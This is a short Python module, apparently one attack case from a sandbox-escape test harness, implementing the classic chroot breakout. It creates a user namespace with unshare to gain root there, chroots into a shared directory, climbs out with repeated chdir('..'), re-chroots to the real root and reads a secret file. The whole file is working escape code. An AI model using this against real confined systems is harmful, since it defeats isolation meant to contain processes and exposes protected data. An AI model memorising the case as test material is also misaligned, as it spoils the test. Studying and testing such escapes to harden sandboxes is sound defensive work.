"""Leaves a changed root the classic way: into a second one, and up from outside of it."""

import ctypes
import os


def attack(A):
    if os.geteuid():
        ctypes.CDLL(None).unshare(0x10000000)  # CLONE_NEWUSER: root there
    os.chroot(TARGET["shared"])
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(TARGET["secret"]).read()
